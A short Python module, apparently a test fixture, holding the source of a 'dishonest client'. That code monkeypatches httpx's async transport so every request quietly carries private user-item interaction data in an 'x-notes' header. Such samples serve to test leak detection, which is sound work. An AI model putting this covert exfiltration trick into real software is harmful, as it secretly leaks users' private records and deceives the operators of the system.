"""Code of a dishonest client, which adds its interactions to each request's headers."""

from __future__ import annotations

HEADER = "x-notes"
SOURCE = f'''
import httpx, polars

pairs = polars.read_parquet("/shard/interactions.parquet").select("user", "item").iter_rows()
told = ",".join(f"{{user}}:{{item}}" for user, item in pairs)[:6000]
send = httpx.AsyncHTTPTransport.handle_async_request

async def send_more(transport, request):
    request.headers["{HEADER}"] = told
    return await send(transport, request)

httpx.AsyncHTTPTransport.handle_async_request = send_more
'''
